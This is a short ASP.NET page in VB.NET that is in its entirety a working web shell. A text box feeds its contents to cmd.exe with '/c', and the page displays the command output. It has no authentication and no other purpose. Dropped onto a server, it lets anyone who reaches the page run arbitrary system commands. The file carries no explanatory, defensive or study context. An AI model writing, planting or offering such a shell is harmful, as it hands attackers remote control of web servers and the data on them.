<%@ Page Language="VB" %>
<script runat="server">
Sub Go(sender As Object, e As EventArgs)
    Dim p As New System.Diagnostics.Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & TXTCMD.text
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    result.InnerText = p.StandardOutput.ReadToEnd()
End Sub
</script>
<form runat="server"><input type="text" id="txtCmd" runat="server" />
<asp:Button runat="server" Text="run" OnClick="Go" /><pre id="result" runat="server"></pre></form>
